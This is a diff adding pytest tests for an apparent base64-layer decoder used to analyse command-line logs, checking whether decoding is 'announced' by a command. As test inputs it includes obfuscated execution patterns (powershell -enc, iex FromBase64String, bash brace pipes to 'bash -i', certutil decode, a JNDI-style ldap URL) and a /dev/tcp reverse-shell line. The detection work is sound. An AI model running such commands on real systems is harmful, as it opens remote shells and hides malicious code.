@@ -10,6 +10,7 @@ import zipfile
 import zlib
 from pathlib import Path
 
+import duckdb
 import pandas as pd
 import polars as pl
 import pytest
@@ -36,7 +37,7 @@ def test_columns_and_places():
     found = decode(pl.DataFrame({"a": ["no", None, f"run {run} now"]}), "a")
     assert found.columns == [
         "Input", "SourceIndex", "input_column", "Depth", "Encoding", "Decoded", "start", "end",
-        "Note", "Layer", "ParentLayer", "Size",
+        "Note", "Layer", "ParentLayer", "Size", "Announced",
     ]  # fmt: skip
     row = found.row(0, named=True)
     assert (row["SourceIndex"], row["Decoded"], row["Size"]) == (2, SCRIPT, len(SCRIPT))
@@ -156,6 +157,66 @@ def test_any_frame_keeps_its_kind_and_index():
     assert decode(pl.DataFrame({"a": []}), "a").height == 0
 
 
+def test_all_text_columns_are_searched_when_none_is_named():
+    frame = pl.DataFrame({"n": [1], "a": [b64(SCRIPT)], "_file": [b64(SCRIPT)]})
+    assert decode(frame)["input_column"].to_list() == ["a"]
+
+
+def test_arrow_tables_and_duckdb_relations_give_the_same_rows():
+    frame = pl.DataFrame({"cmd": ["x", f"powershell -enc {b64(SCRIPT, 'utf-16-le')}"]})
+    wanted = decode(frame)
+    assert wanted.height == 1
+    assert pl.from_arrow(decode(frame.to_arrow())).equals(wanted)
+    with duckdb.connect() as connection:
+        relation = decode(connection.from_arrow(frame.to_arrow()))
+        assert isinstance(relation, duckdb.DuckDBPyRelation)
+        assert relation.pl().equals(wanted)
+    assert pl.from_pandas(decode(frame.to_pandas())).rows() == wanted.rows()
+
+
+PLAIN = "Some long identity of a mailbox, nothing else"
+
+
+@pytest.mark.parametrize(
+    ("text", "announced"),
+    [
+        ('"Name": "Identity", "Value": "{}"', False),
+        ("GoogleUpdate.exe /ping {}", False),
+        ("zoom.exe --url=zoommtg://zoom.example/join?pwd={}", False),
+        ("powershell -enc {}", True),
+        ("$x = '{}'; iex ([Convert]::FromBase64String($x))", True),
+        ('bash -c "{{echo,{}}}|{{base64,-d}}|{{bash,-i}}"', True),
+        ("echo {} | base64 --decode", True),
+        ("certutil -f -decode in out & rem {}", True),
+        ("ldap://192.0.2.6:1389/Basic/Command/Base64/{}", True),
+    ],
+)
+def test_layers_that_no_command_announces_are_marked(text, announced):
+    (layer,) = decode_text(text.format(b64(PLAIN)))
+    assert layer.announced is announced
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        gzip.compress(PLAIN.encode()),
+        PLAIN.encode("utf-16-le"),
+        b"bash -i >& /dev/tcp/192.0.2.6/443 0>&1",
+        b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run" + b"\xff" * 40,
+    ],
+    ids=["compressed", "utf-16", "shell", "program"],
+)
+def test_content_can_announce_itself(data):
+    found = decode(pl.DataFrame({"value": [f"value={b64(data)}"]}))
+    assert found["Announced"].to_list() == [True]
+
+
+def test_what_lies_in_an_announced_layer_is_announced():
+    inner = b64(PLAIN)
+    assert [layer.announced for layer in decode_text(f"powershell -enc {b64(inner)}")] == [True] * 2
+    assert [layer.announced for layer in decode_text(f"id={b64(inner)}")] == [False] * 2
+
+
 @settings(max_examples=200, deadline=None)
 @given(st.text(max_size=200) | st.text(alphabet="aA0+/=-_'\" e\r\n", max_size=400))
 def test_no_text_makes_it_fail(text):
@@ -214,6 +275,14 @@ def test_empire_launchers_come_out_as_readable_powershell(shared_data):
 
 
 @pytest.mark.data
+@pytest.mark.parametrize("name", ["demo_exchange_data.csv", "mde_proc_cs1.csv"])
+def test_base64_that_software_wrote_is_no_announced_command(shared_data, name):
+    found = decode(pl.read_csv(shared_data / "logs" / name, infer_schema=False))
+    assert found.height > 0
+    assert not found["Announced"].any()
+
+
+@pytest.mark.data
 def test_plain_command_lines_give_no_false_layer(shared_data):
     """Figure: no false layer in 20,000 and more distinct texts: command lines, whole messages."""
     commands = {
@@ -227,4 +296,5 @@ def test_plain_command_lines_give_no_false_layer(shared_data):
     found = decode(pl.DataFrame({"c": sorted(commands)}), "c")
     announced = found["Input"].str.contains(r"(?i)-enc\s|frombase64string")
     assert found.filter(~announced)["Decoded"].to_list() == []
+    assert found["Announced"].all()
     assert found["Note"].str.starts_with("binary").sum() == 0
